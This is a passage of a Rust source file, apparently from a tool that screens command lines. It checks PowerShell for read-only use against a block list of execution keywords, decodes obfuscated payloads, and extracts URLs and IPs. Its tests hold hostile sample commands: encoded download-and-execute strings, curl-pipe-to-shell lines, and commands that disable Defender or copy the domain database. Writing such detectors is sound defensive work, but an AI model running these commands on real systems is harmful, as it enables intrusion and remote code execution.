        }
    };
    // PowerShell's own comments only: `<# … #>` blocks and lines that start with `#`.
    let mut code = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest.find("<#") {
        code.push_str(&rest[..i]);
        rest = rest[i + 2..]
            .find("#>")
            .map_or("", |j| &rest[i + 2 + j + 2..]);
    }
    code.push_str(rest);
    let code = code
        .lines()
        .filter(|l| !l.trim_start().starts_with('#'))
        .collect::<Vec<_>>()
        .join("\n")
        .to_ascii_lowercase();
    const RUNS: &[&str] = &[
        "iex ",
        "iex(",
        "iex$",
        "| iex",
        "invoke-expression",
        "[scriptblock]::create",
        "frombase64string",
        "downloadstring",
        "downloadfile",
        "-encodedcommand",
        " -enc ",
        "start-process",
        "diagnostics.process",
        ".create(",
        "wmiclass",
        "cmd /c",
        "cmd.exe",
        ".exe",
        "& $",
        "&$",
        ".invoke(",
        "addscript(",
        "net.webclient",
        "-outvariable",
    ];
    if RUNS.iter().any(|r| code.contains(r)) {
        return false;
    }
    let mut named = 0;
    for c in CMDLET.captures_iter(&code) {
        let (verb, noun) = (&c[1], &c[2]);
        if !PS_VERBS.contains(&verb) {
            continue;
        }
        named += 1;
        let ok = PS_READ_VERBS.contains(&verb)
            || (verb == "invoke" && noun == "command")
            || (verb == "new"
                && matches!(
                    noun,
                    "object"
                        | "timespan"
                        | "pssession"
                        | "cimsession"
                        | "pssessionoption"
                        | "cimsessionoption"
                ))
            || (verb == "remove" && matches!(noun, "pssession" | "cimsession"))
            || (verb == "add" && noun == "member")
            || (verb == "import" && matches!(noun, "csv" | "clixml"));
        if !ok {
            return false;
        }
    }
    named > 0
}

/// Removes comments so that indicators named only in documentation (`<# .EXAMPLE … #>`, `# …`,
/// `REM …`, `' …`, `// …`) are not mistaken for what the script does.
pub fn strip_comments(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest.find("<#") {
        out.push_str(&rest[..i]);
        match rest[i + 2..].find("#>") {
            Some(j) => rest = &rest[i + 2 + j + 2..],
            None => {
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out.lines()
        .filter(|l| {
            let t = l.trim_start();
            !(t.starts_with('#')
                || t.starts_with("//")
                || t.starts_with('\'')
                || t.to_ascii_lowercase().starts_with("rem "))
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Share of characters that are obfuscation punctuation (`^`, `` ` ``, `+`, quotes) — cmd
/// DOSfuscation and Invoke-Obfuscation drive this up; normal command lines stay low.
pub fn obfuscation_ratio(text: &str) -> f64 {
    let n = text.chars().count();
    if n == 0 {
        return 0.0;
    }
    let k = text
        .chars()
        // Braces are not counted: they are the syntax of every code one-liner (`node -e`,
        // `perl -e`, `ruby -e`), not a sign of hiding anything.
        .filter(|c| matches!(c, '^' | '`' | '+' | '\'' | '"'))
        .count();
    k as f64 / n as f64
}

/// Shannon entropy in bits per character.
pub fn entropy(text: &str) -> f64 {
    let mut counts: HashMap<char, usize> = HashMap::new();
    let mut n = 0usize;
    for c in text.chars() {
        *counts.entry(c).or_default() += 1;
        n += 1;
    }
    if n == 0 {
        return 0.0;
    }
    counts
        .values()
        .map(|&k| {
            let p = k as f64 / n as f64;
            -p * p.log2()
        })
        .sum()
}

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:https?|s?ftps?|scp)://[^\s'"<>()\[\]{}|^`,;\\]+"#).expect("static regex")
});

/// URLs named in the text (http, https, ftp, ftps, sftp, scp), trailing punctuation trimmed, de-duplicated.
pub fn urls(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for m in URL.find_iter(text).take(256) {
        // A shell's `&&` (cmd, sh) ends the command, not the URL.
        let u = m.as_str().split("&&").next().unwrap_or_default();
        let u = u.trim_end_matches(['.', ':', '!', '?', '&']);
        if url_host(u).is_some_and(|h| !h.is_empty()) && !out.iter().any(|x| x == u) {
            out.push(u.to_owned());
        }
    }
    out
}

/// The host part of a URL, lower case, without port or credentials.
pub fn url_host(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let hostport = authority.rsplit('@').next()?;
    let host = if let Some(h) = hostport.strip_prefix('[') {
        h.split(']').next()?
    } else {
        hostport.split(':').next()?
    };
    Some(host.trim_end_matches('.').to_ascii_lowercase())
}

static IPV4: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[^0-9.])((?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(?:\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})(?:$|[^0-9.])")
        .expect("static regex")
});

/// IPv4 addresses named in the text (not version numbers like 10.0.17763.1), de-duplicated.
pub fn ips(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut start = 0;
    while let Some(c) = IPV4.captures_at(text, start) {
        let m = c.get(1).expect("group 1");
        let ip = m.as_str().to_owned();
        // A .NET assembly's or a file's version (`Version=4.0.0.0`) has an address's shape.
        let before = text[..m.start()].trim_end_matches(['"', '\'', ' ']);
        let version = before.len() >= 8
            && before.is_char_boundary(before.len() - 8)
            && before[before.len() - 8..].eq_ignore_ascii_case("version=");
        // Glued to a name (`App.Desktop_3.2.7.0_x64`, `v1.2.3.4`, `setup-2.1.0.5-x64`): a
        // version in a file or package name, not an address.
        let glued =
            |c: Option<char>| c.is_some_and(|c| c == '_' || c == '-' || c.is_ascii_alphabetic());
        let version = version
            || glued(text[..m.start()].chars().next_back())
            || glued(text[m.end()..].chars().next());
        if !version && !out.contains(&ip) {
            out.push(ip);
        }
        start = m.end();
        if out.len() >= 256 {
            break;
        }
    }
    out
}

/// True for a syntactically valid IP that is routable on the internet: not private, loopback,
/// link-local, CGNAT, multicast, documentation, benchmarking, broadcast or unspecified.
pub fn is_public_ip(ip: &str) -> bool {
    let Ok(ip) = ip.trim().parse::<IpAddr>() else {
        return false;
    };
    match ip {
        IpAddr::V4(v4) => public_v4(v4),
        IpAddr::V6(v6) => {
            if let Some(v4) = v6.to_ipv4_mapped() {
                return public_v4(v4);
            }
            let s = v6.segments();
            !(v6.is_loopback()
                || v6.is_unspecified()
                || v6.is_multicast()
                || (s[0] & 0xfe00) == 0xfc00 // unique local
                || (s[0] & 0xffc0) == 0xfe80 // link local
                || (s[0] == 0x2001 && s[1] == 0x0db8)) // documentation
        }
    }
}

fn public_v4(v4: std::net::Ipv4Addr) -> bool {
    let o = v4.octets();
    !(v4.is_private()
        || v4.is_loopback()
        || v4.is_link_local()
        || v4.is_multicast()
        || v4.is_broadcast()
        || v4.is_unspecified()
        || v4.is_documentation()
        || o[0] == 0
        || (o[0] == 100 && (o[1] & 0xc0) == 64) // CGNAT 100.64/10
        || (o[0] == 198 && (o[1] & 0xfe) == 18) // benchmarking 198.18/15
        || (o[0] == 192 && o[1] == 0 && o[2] == 0) // IETF protocol assignments
        || o[0] >= 240) // reserved
}

/// True when `ip` is inside any of the CIDRs (or equal to a bare address in the list).
pub fn ip_in(ip: &str, cidrs: &[String]) -> bool {
    ip_in_strs(ip, cidrs)
}

/// [`ip_in`] over borrowed strings (the expression functions pass them uncopied).
pub fn ip_in_strs(ip: &str, cidrs: &[impl AsRef<str>]) -> bool {
    let Ok(addr) = ip.trim().parse::<IpAddr>() else {
        return false;
    };
    cidrs.iter().any(|c| {
        let c = c.as_ref();
        c.parse::<ipnet::IpNet>()
            .map(|n| n.contains(&addr))
            .or_else(|_| c.parse::<IpAddr>().map(|a| a == addr))
            .unwrap_or(false)
    })
}

/// True when `domain` equals one of `list` or is a subdomain of it (label boundary).
pub fn domain_in(domain: &str, list: &[String]) -> bool {
    domain_in_strs(domain, list)
}

/// [`domain_in`] over borrowed strings (the expression functions pass them uncopied).
pub fn domain_in_strs(domain: &str, list: &[impl AsRef<str>]) -> bool {
    let d = domain.trim().trim_end_matches('.').to_ascii_lowercase();
    list.iter().any(|e| {
        let e = e
            .as_ref()
            .trim()
            .trim_start_matches("*.")
            .trim_end_matches('.')
            .to_ascii_lowercase();
        !e.is_empty() && (d == e || d.ends_with(&format!(".{e}")))
    })
}

/// True for a string that parses as an IP address.
pub fn is_ip(s: &str) -> bool {
    s.trim().parse::<IpAddr>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn character_codes_are_read_as_text() {
        // IEX (New-Object Net.WebClient)
        let ps = "&([scriptblock]::Create((-join[char[]](73,69,88,32,40,78,101,119,45,79,98,106,101,99,116))))";
        assert!(decoded(ps).contains("IEX (New-Object"), "{}", decoded(ps));
        let casts =
            "[char]0x69+[char]0x65+[char]0x78+[char]32+[char]0x28+[char]0x67+[char]0x63+[char]0x29";
        assert_eq!(decoded(casts), "iex (gc)");
        assert!(decoded("String.fromCharCode(101,118,97,108,40,120,41,59)").contains("eval(x);"));
        // Codes that are not printable text, and ordinary byte lists, stay as they are.
        assert_eq!(decoded("[char[]](1,2,3,4,5,6,7,8,9)"), "");
        assert_eq!(decoded("$a = @(73,69,88,32,40,78,101,119)"), "");
    }

    #[test]
    fn cmd_variables_are_put_back_where_they_are_used() {
        let t = r#"cmd /v:on /c "set u=ht&&set v=tps://x.example/a&&curl -o %TEMP%\r.pdf !u!!v!/r.pdf""#;
        let x = expand_cmd_vars(t).unwrap();
        assert!(
            x.contains("curl -o %TEMP%\\r.pdf https://x.example/a/r.pdf"),
            "{x}"
        );
        assert!(deobfuscate(t).contains("https://x.example/a/r.pdf"));
        // Variables built from variables; unknown ones stay; nothing to do gives None.
        let y = expand_cmd_vars("set a=po&& set b=%a%wershell&& %b% -c 1 %path%").unwrap();
        assert!(y.ends_with("powershell -c 1 %path%"), "{y}");
        assert_eq!(expand_cmd_vars("echo %path% !x!"), None);
        assert_eq!(expand_cmd_vars("set a=b"), None);
    }

    #[test]
    fn deobfuscate_whitespace_matches_the_regex() {
        let ws = Regex::new(r"\s+").unwrap();
        for t in [
            "a  b\t\tc\n\r\nd",
            " lead",
            "trail \u{a0}\u{2003}x\u{3000}",
            "\u{85}\u{2028}y  ",
            "none",
            "",
        ] {
            assert_eq!(
                deobfuscate(t),
                ws.replace_all(&t.to_lowercase(), " "),
                "{t:?}"
            );
        }
    }

    fn enc(s: &str) -> String {
        let u: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        base64::engine::general_purpose::STANDARD.encode(u)
    }

    #[test]
    fn decodes_encoded_command_with_any_switch_prefix() {
        for sw in ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-ENCOD"] {
            let cmd = format!(
                "powershell.exe -nop -w hidden {sw} {}",
                enc("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')")
            );
            let d = decoded(&cmd);
            assert!(d.contains("DownloadString"), "{sw}: {d}");
        }
        // -ep is ExecutionPolicy, not an encoded command
        assert_eq!(decoded("powershell -ep bypass -file x.ps1"), "");
    }

    #[test]
    fn decodes_nested_frombase64_and_gzip() {
        let inner = base64::engine::general_purpose::STANDARD
            .encode("Invoke-WebRequest http://203.0.113.9/p.ps1");
        let outer = enc(&format!(
            "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')))"
        ));
        let d = decoded(&format!("powershell -enc {outer}"));
        assert!(d.contains("FromBase64String"));
        assert!(d.contains("http://203.0.113.9/p.ps1"), "{d}");
        // gzip
        let mut gz = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
        gz.extend(miniz_oxide::deflate::compress_to_vec(
            b"curl http://bad.example/x | sh; echo done done done",
            6,
        ));
        gz.extend([0u8; 8]);
        let b = base64::engine::general_purpose::STANDARD.encode(&gz);
        assert!(decoded(&format!("FromBase64String('{b}') GzipStream")).contains("bad.example"));
        // A long compressed script (past the first bytes looked at) is inflated whole ...
        let script = format!(
            "{}\nIEX (iwr http://late.example/s.ps1)",
            "Write-Output 'padding line';\n".repeat(40)
        );
        let b = base64::engine::general_purpose::STANDARD
            .encode(miniz_oxide::deflate::compress_to_vec(script.as_bytes(), 6));
        assert!(
            decoded(&format!("DeflateStream(FromBase64String('{b}'))")).contains("late.example")
        );
        // ... a compressed program (an MZ header, then binary) is not text at all.
        let mut pe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
        pe.extend((0..4000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
        let b = base64::engine::general_purpose::STANDARD
            .encode(miniz_oxide::deflate::compress_to_vec(&pe, 6));
        assert_eq!(
            decoded(&format!("DeflateStream(FromBase64String('{b}'))")),
            ""
        );
        assert!(bytes_to_text(&pe).is_none());
    }

    #[test]
    fn hostile_input_is_bounded() {
        let big = "A".repeat(1_000_000);
        let _ = decoded(&big);
        let _ = urls(&big);
        let _ = ips(&"1.".repeat(100_000));
        assert_eq!(decoded(""), "");
    }

    #[test]
    fn comments_are_not_evidence() {
        let t = "<#\n.EXAMPLE\n iwr https://foo.example/x\n#>\n# see http://doc.example\niwr http://real.example/p";
        assert_eq!(urls(&strip_comments(t)), vec!["http://real.example/p"]);
    }

    #[test]
    fn deobfuscation() {
        assert!(deobfuscate("p^o^w^e^r^s^h^e^l^l").contains("powershell"));
        assert!(deobfuscate("(New-Object 'Ne'+'t.We'+'bClient')").contains("net.webclient"));
        assert!(deobfuscate("I`E`X").contains("iex"));
        assert!(deobfuscate("h''t''t''p://x").contains("http://x"));
        let blob = "QUJD".repeat(100);
        let d = deobfuscate(&format!("powershell -enc {blob} -w hidden"));
        assert_eq!(d, "powershell -enc [encoded 400 chars] -w hidden");
        assert!(
            deobfuscate(&"QUJD".repeat(10)).contains("qujd"),
            "short runs stay"
        );
    }

    #[test]
    fn extracts_indicators() {
        let t = "iwr http://198.51.100.7:8080/a.ps1; curl https://raw.githubusercontent.com/x/y.sh|bash; v10.0.17763.1 8.8.8.8";
        assert_eq!(
            urls(t),
            vec![
                "http://198.51.100.7:8080/a.ps1",
                "https://raw.githubusercontent.com/x/y.sh"
            ]
        );
        assert_eq!(ips(t), vec!["198.51.100.7", "8.8.8.8"]);
        assert_eq!(
            urls("curl https://x.example/a?b=1&c=2&&start https://y.example/u.bin&&%public%"),
            vec!["https://x.example/a?b=1&c=2", "https://y.example/u.bin"]
        );
        // Uploads and fetches over SFTP, FTPS and SCP URLs (curl -T, curl sftp://…).
        assert_eq!(
            urls(
                "curl -T - sftp://nas.corp.local/b/x.enc; curl ftps://a.example/f scp://b.example/k"
            ),
            vec![
                "sftp://nas.corp.local/b/x.enc",
                "ftps://a.example/f",
                "scp://b.example/k"
            ]
        );
        assert_eq!(
            ips(
                "Assembly.Load(\"System.Web, Version=4.0.0.0, Culture=neutral\"); version='2.0.0.1' 203.0.113.9"
            ),
            vec!["203.0.113.9"],
            "versions are not addresses"
        );
        assert_eq!(
            ips(
                r"C:\Program Files\WindowsApps\App.Desktop_3.2.7.0_x64__4r9\a.ps1 setup-2.1.0.5-x64.exe v1.2.3.4 \\198.51.100.4\s @203.0.113.5:22"
            ),
            vec!["198.51.100.4", "203.0.113.5"],
            "versions glued to names are not addresses"
        );
        assert_eq!(
            url_host("https://user@Host.Example:443/p").as_deref(),
            Some("host.example")
        );
    }

    #[test]
    fn ip_classes() {
        for ip in [
            "10.1.2.3",
            "172.16.0.1",
            "192.168.1.1",
            "127.0.0.1",
            "169.254.1.1",
            "100.64.0.1",
            "::1",
            "fe80::1",
            "fd00::1",
            "224.0.0.1",
            "0.0.0.0",
            "255.255.255.255",
            "198.51.100.1",
        ] {
            assert!(!is_public_ip(ip), "{ip}");
        }
        for ip in ["8.8.8.8", "151.101.208.133", "2606:4700::1111"] {
            assert!(is_public_ip(ip), "{ip}");
        }
        assert!(ip_in("10.2.3.4", &["10.0.0.0/8".into()]));
        assert!(!ip_in("11.2.3.4", &["10.0.0.0/8".into()]));
        assert!(domain_in(
            "raw.githubusercontent.com",
            &["githubusercontent.com".into()]
        ));
        assert!(!domain_in(
            "evilgithubusercontent.com",
            &["githubusercontent.com".into()]
        ));
    }

    #[test]
    fn paths_and_args() {
        assert_eq!(basename(r"C:\Windows\System32\cmd.exe"), "cmd.exe");
        assert_eq!(basename("/usr/bin/python3"), "python3");
        assert_eq!(dirname(r"C:\Users\bob\a.vbs"), r"C:\Users\bob");
        assert_eq!(
            split_args(r#""C:\Program Files\x.exe" -a "b c" d"#),
            vec![r"C:\Program Files\x.exe", "-a", "b c", "d"]
        );
    }

    #[test]
    fn read_only_powershell() {
        let r = powershell_read_only;
        assert!(r(
            "<# .SYNOPSIS Set-Item is only named here #>\n$s = Get-Content s.txt | Where-Object { $_ }\n\
             Invoke-Command -ComputerName $s -ScriptBlock { Get-HotFix | Sort-Object InstalledOn | Select-Object -First 1 } |\n\
             Export-Csv -NoTypeInformation -Path r.csv"
        ));
        assert!(r(
            "Get-CimInstance Win32_OperatingSystem -CimSession (New-CimSession -ComputerName fs01)"
        ));
        assert!(!r(
            "Invoke-Command -ComputerName fs01 -ScriptBlock { Set-MpPreference -DisableRealtimeMonitoring $true }"
        ));
        assert!(!r(
            "Invoke-Command -ComputerName fs01 -ScriptBlock { Get-Item x | Remove-Item }"
        ));
        assert!(!r(
            "Invoke-Command -ComputerName fs01 -ScriptBlock { iex (Get-Content \\\\s\\x.txt -Raw) }"
        ));
        assert!(!r(
            "Invoke-Command -ComputerName fs01 -ScriptBlock { Get-Date; cmd.exe /c whoami }"
        ));
        assert!(!r(
            "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -CimSession $s"
        ));
        assert!(
            r(
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"Invoke-Command -ComputerName DC01 -ScriptBlock { Get-Service NTDS | Select-Object Name,Status; repadmin /replsummary }\""
            ),
            "the command line's own program is not a native program the script runs"
        );
        assert!(!r(
            "powershell.exe -Command \"Invoke-Command -ComputerName DC01 -ScriptBlock { Get-Date; ntdsutil.exe ifm }\""
        ));
        assert!(!r("$x = 1"), "no cmdlet named: nothing to judge");
        assert!(
            !r("Get-Date\n'Remove-Item x' | Invoke-Expression"),
            "a line that starts with a string is code in PowerShell"
        );
    }

    #[test]
    fn scripts_written_and_run_in_one_command() {
        let w = written_then_run;
        assert_eq!(
            w(
                r#"cmd.exe /c cd /d %TEMP%\ & echo Set o = CreateObject("WScript.Shell") > AtomicTest.vbs & AtomicTest.vbs"#
            ),
            "AtomicTest.vbs"
        );
        assert_eq!(
            w("printf '#!/bin/sh\\nid' > /tmp/.x.sh; chmod +x /tmp/.x.sh; /tmp/.x.sh"),
            "/tmp/.x.sh"
        );
        assert_eq!(
            w("echo 'curl x|sh' > /tmp/a.sh && sudo bash /tmp/a.sh"),
            "/tmp/a.sh"
        );
        assert_eq!(
            w("echo 'id' >> run.ps1; powershell -File .\\run.ps1"),
            "run.ps1",
            "run by a launcher, by file name"
        );
        // Written but not run: only made executable, read back or removed.
        assert_eq!(
            w("echo '#!/bin/sh' > /entrypoint.sh && chmod +x /entrypoint.sh"),
            ""
        );
        assert_eq!(w("echo x > notes.txt & notes.txt"), "", "not a script");
        assert_eq!(w("echo hello > a.sh; cat a.sh; rm a.sh"), "");
        assert_eq!(
            w("echo '#!/bin/sh' > /entrypoint.sh && sudo chmod +x /entrypoint.sh"),
            "",
            "a launcher before chmod"
        );
        assert_eq!(w("echo x > a.bat & cmd /c del a.bat"), "");
        assert_eq!(
            w("echo 'id' > /tmp/a.sh; cat /tmp/a.sh | sudo sh"),
            "/tmp/a.sh",
            "read back into a shell"
        );
        assert_eq!(
            w("'iex x' | Out-File s.ps1; Get-Content s.ps1 | iex"),
            "s.ps1",
            "read back into Invoke-Expression"
        );
        assert_eq!(
            w("echo id > a.sh; cat a.sh | grep id"),
            "",
            "read into a filter"
        );
        assert_eq!(w("echo id > a.sh; cat a.sh || sh"), "", "not a pipe");
        assert_eq!(w("echo x > a.sh; echo y | tee -a a.sh"), "");
        assert_eq!(w("echo x > a.sh; vim a.sh"), "");
        assert_eq!(
            w("echo x > run.ps1.bak; run.ps1"),
            "",
            "the whole file name"
        );
        assert_eq!(
            w("echo x > a.sh; sudo bash a.sh"),
            "a.sh",
            "a launcher before the interpreter"
        );
        assert_eq!(w("echo x > a.bat & cmd /c a.bat"), "a.bat");
        assert_eq!(
            w(
                "Set-Content -Path C:\\ProgramData\\u.ps1 -Value $p; powershell -ep bypass -File C:\\ProgramData\\u.ps1"
            ),
            "C:\\ProgramData\\u.ps1"
        );
        assert_eq!(w("$p | Out-File x.ps1; & .\\x.ps1"), "x.ps1");
        // Hostile input stays bounded and never panics on multi-byte text.
        let long = "echo ü > é.sh; ".repeat(5000) + "sh é.sh";
        assert_eq!(w(&long), "é.sh");
    }

    #[test]
    fn regex_cache_tells_apart_patterns_with_the_same_ends() {
        // Same length, same first and last 32 bytes: one bucket, two patterns.
        let pad = "x".repeat(40);
        let a = format!("^{pad}(cat){pad}$");
        let b = format!("^{pad}(dog){pad}$");
        assert_eq!(pattern_key(&a), pattern_key(&b));
        let hay = format!("{pad}dog{pad}");
        assert_eq!(with_regex(&a, |r| r.is_match(&hay)), Ok(false));
        assert_eq!(with_regex(&b, |r| r.is_match(&hay)), Ok(true));
        assert_eq!(with_regex(&a, |r| r.is_match(&hay)), Ok(false), "cached");
        assert!(
            with_regex("(", |_| ()).is_err(),
            "an invalid pattern stays an error"
        );
        assert!(with_regex("(", |_| ()).is_err());
    }

    #[test]
    fn hex_and_escaped_payloads_decode() {
        let hex: String = b"curl -fsSL http://103.85.24.1/r.sh | sh"
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        let d = decoded(&format!("sh -c \"echo {hex} | xxd -r -p | sh\""));
        assert!(d.contains("http://103.85.24.1/r.sh"), "{d}");
        let esc: String = b"curl -o /tmp/x http://h.example/x"
            .iter()
            .map(|b| format!("\\x{b:02x}"))
            .collect();
        let d = decoded(&format!("bash -c \"eval \\\"$(printf '{esc}')\\\"\""));
        assert!(d.contains("curl -o /tmp/x"), "{d}");
        // A SHA-256 is hex but not text.
        assert_eq!(
            decoded("sha256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
            ""
        );
    }
}
